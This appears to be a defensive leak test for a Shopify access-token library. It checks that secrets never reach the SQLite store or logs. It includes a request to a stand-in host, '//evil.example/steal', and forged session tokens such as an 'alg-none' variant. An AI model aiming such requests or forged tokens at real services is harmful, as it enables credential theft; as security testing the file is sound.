import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { format, inspect } from 'node:util'
import {
  createTokenManager,
  errorAnswer,
  type Fetch,
  fingerprint,
  openRequest,
  parseShop,
  sealedStore,
  staticKeyRing,
  type TokenManager,
  type TokenManagerOptions,
} from '@shopify-tokens/core'
import { aRecord, FakeShopify, fault, FaultyStore } from '@shopify-tokens/testing'
import { tokenMigrations, TypeOrmTokenStore } from '@shopify-tokens/typeorm-store'
import { DataSource } from 'typeorm'
import { PLANTED } from './planted.mjs'
import { findMintedTokens, findSecrets } from './search.mjs'

const CLIENT_ID = 'leaks'
const CLIENT_SECRET = PLANTED['client secret of the leak tests'] ?? ''
const NEW_CLIENT_SECRET = `${CLIENT_SECRET}-of-next-year`
const keyRing = staticKeyRing([
  { id: 'k1', bytes: Buffer.from(PLANTED['sealing key of the leak tests'] ?? '', 'base64') },
])

interface Traces {
  /** Database file, write-ahead log and whatever else lies beside them. */
  readonly files: Buffer
  /** Everything that a careless app could have printed, logged or sent. */
  readonly printed: string
  /** Tokens that were stored at some time. */
  readonly stored: Record<string, string>
  /** All that must stay secret. */
  readonly secrets: Record<string, string>
}

/** Drives every path that touches a secret, over a real SQLite file, and gathers what it left behind. */
async function traces(sealing: typeof keyRing | 'unsealed-tokens-readable-in-store'): Promise<Traces> {
  const folder = await mkdtemp(join(tmpdir(), 'shopify-tokens-leaks-'))
  const database = join(folder, 'tokens.sqlite')
  const dataSource = await new DataSource({
    ...{ type: 'better-sqlite3', database, timeout: 50, enableWAL: true },
    migrations: tokenMigrations(),
  }).initialize()
  await dataSource.runMigrations()
  const shopify = await FakeShopify.start({ clientId: CLIENT_ID, clientSecret: CLIENT_SECRET })
  const printed: string[] = []
  const print = (...things: unknown[]): void => {
    for (const thing of things) {
      printed.push(inspect(thing, { depth: 10, showHidden: true }), format('%s %j', thing, thing))
      if (thing instanceof Error) printed.push(thing.stack ?? '', inspect(thing.cause, { depth: 10 }))
      const answer = errorAnswer(thing, { authPath: '/auth' })
      if (answer !== null) printed.push(JSON.stringify(answer))
    }
  }
  const minted = new Set<string>()
  const secrets: Record<string, string> = { ...PLANTED }
  const fetch: Fetch = async (input, init) => {
    const response = await shopify.fetch(input, init)
    const body = await response.clone().text()
    for (const token of body.match(/shp(?:at|rt)_[0-9a-f]+/g) ?? []) minted.add(token)
    return response
  }
  const store = new FaultyStore(new TypeOrmTokenStore(dataSource))
  const managerOf = (changed: Partial<TokenManagerOptions> = {}): TokenManager =>
    createTokenManager({
      ...{ clientId: CLIENT_ID, clientSecret: CLIENT_SECRET, store, sealing, fetch, apiVersion: '2026-10' },
      ...{ requestTimeoutMs: 300, retryBudgetMs: 400, leaseMs: 800 },
      onEvent: print,
      ...changed,
    })
  const tokens = managerOf()
  const raw = sealing === keyRing ? sealedStore(store, keyRing) : store
  let serial = 0

  async function seeded(ageMs = 7_200_000): Promise<ReturnType<typeof parseShop>> {
    const shop = parseShop(`shop-${String((serial += 1))}.myshopify.com`)
    const pair = shopify.mintPair(shop, { ageMs })
    const { accessToken, refreshToken, issuedAt: obtainedAt, accessTokenExpiresAt: expiresAt } = pair
    const secretId = fingerprint(CLIENT_SECRET)
    minted.add(accessToken).add(refreshToken)
    const record = aRecord.expiring({ accessToken, refreshToken, obtainedAt, expiresAt, secretId })
    await raw.put({ clientId: CLIENT_ID, shop }, record, 'absent')
    return shop
  }
  const attempt = (work: Promise<unknown>): Promise<void> => work.then(print, print)

  try {
    const shop = await seeded()
    await attempt(tokens.token(shop))
    await attempt(tokens.force(shop))
    await attempt(tokens.forShop(shop).graphql('{ shop { name } }'))
    await attempt(tokens.forShop(shop).fetch('//evil.example/steal'))
    const { value } = await tokens.token(shop)
    await attempt(tokens.token(shop, { rejected: value }))
    print(tokens, tokens.forShop(shop), await tokens.token(shop), store.count())

    const first = parseShop('first-visit.myshopify.com')
    shopify.installShop(first)
    const idToken = shopify.sessionToken(first)
    secrets['session token'] = idToken
    await attempt(tokens.token(first, { idToken }))
    await attempt(tokens.acquire(first, { idToken }))
    await attempt(tokens.token(first, { idToken, scopes: ['write_orders'] }))
    for (const answer of ['granted', 'hang', 'code-used'] as const) {
      const code = shopify.issueCode(first)
      secrets[`code, ${answer}`] = code
      if (answer === 'hang') shopify.faults.next(first, { kind: answer, when: 'after' })
      if (answer === 'code-used') shopify.faults.next(first, { kind: answer })
      await attempt(tokens.acquire(first, { code }))
    }
    const request = { method: 'GET', url: '/', accept: undefined, fetchDest: undefined }
    const facts = { ...request, authorization: `Bearer ${idToken}`, idToken: undefined }
    await attempt(openRequest(tokens, facts, { shop: undefined, lazy: false }))
    for (const defect of ['bad-signature', 'expired', 'alg-none'] as const) {
      const bad = shopify.sessionToken(first, { defect })
      secrets[`session token, ${defect}`] = bad
      await attempt(tokens.verifySessionToken(bad))
    }

    for (const trouble of [
      { kind: 'terminal' },
      { kind: 'html', when: 'after' },
      { kind: 'truncated' },
      { kind: 'hang', when: 'after' },
      { kind: 'redirect' },
      { kind: 'invalid-client' },
      { kind: 'oauth-error', status: 409, error: 'novel' },
      { kind: 'missing', field: 'refresh_token' },
    ] as const) {
      const troubled = await seeded()
      shopify.faults.next(troubled, trouble, { times: 20 })
      await attempt(tokens.token(troubled))
    }
    await attempt(managerOf({ clientSecret: 'wrong' }).token(await seeded()))

    secrets['new client secret'] = NEW_CLIENT_SECRET
    shopify.addClientSecret(NEW_CLIENT_SECRET)
    const bothSecrets = { clientSecret: NEW_CLIENT_SECRET, previousClientSecret: CLIENT_SECRET }
    await attempt(managerOf({ ...bothSecrets, lateRequestMs: 1 }).repinAll({ perSecond: 1_000, onProgress: print }))

    store.next('put', fault.pass(), fault.failAfter(), fault.failBefore())
    await attempt(tokens.token(await seeded()))
    store.next('get', fault.failBefore(new Error('connection lost')))
    await attempt(tokens.token(await seeded()))
    await attempt(tokens.remove(await seeded()))
    await attempt(tokens.close())
    await attempt(tokens.token(await seeded()))

    const files = await Promise.all((await readdir(folder)).map((file) => readFile(join(folder, file))))
    const all = [...minted].map((token, index): [string, string] => [`token ${String(index)}`, token])
    const rows = store.calls.flatMap((call) => (call.verb === 'put' ? [JSON.stringify(call.record)] : [])).join('\n')
    return {
      files: Buffer.concat(files),
      printed: printed.join('\n'),
      stored: Object.fromEntries(all.filter(([, token]) => rows.includes(token))),
      secrets: { ...secrets, ...Object.fromEntries(all) },
    }
  } finally {
    await shopify.close()
    await dataSource.destroy()
    await rm(folder, { recursive: true })
  }
}

describe('with the seal on', () => {
  let left: Traces
  beforeAll(async () => {
    left = await traces(keyRing)
  }, 30_000)

  it('no secret stands in the database file or beside it', () => {
    expect(left.files.length).toBeGreaterThan(50_000)
    expect(findSecrets(left.files, left.secrets)).toEqual([])
  })

  it('no secret stands in what events, errors, answers and printed objects show', () => {
    expect(left.printed.length).toBeGreaterThan(10_000)
    expect(findSecrets(left.printed, left.secrets)).toEqual([])
    expect(findMintedTokens(left.printed)).toEqual([])
  })
})

describe('with the seal off', () => {
  let left: Traces
  beforeAll(async () => {
    left = await traces('unsealed-tokens-readable-in-store')
  }, 30_000)

  it('the same search finds every token that was stored', () => {
    const found = findSecrets(left.files, left.stored).map(({ name }) => name)

    expect(Object.keys(left.stored).length).toBeGreaterThan(20)
    expect(found).toEqual(Object.keys(left.stored))
  })

  it('events, errors, answers and printed objects still show none', () => {
    expect(findSecrets(left.printed, left.secrets)).toEqual([])
  })
})
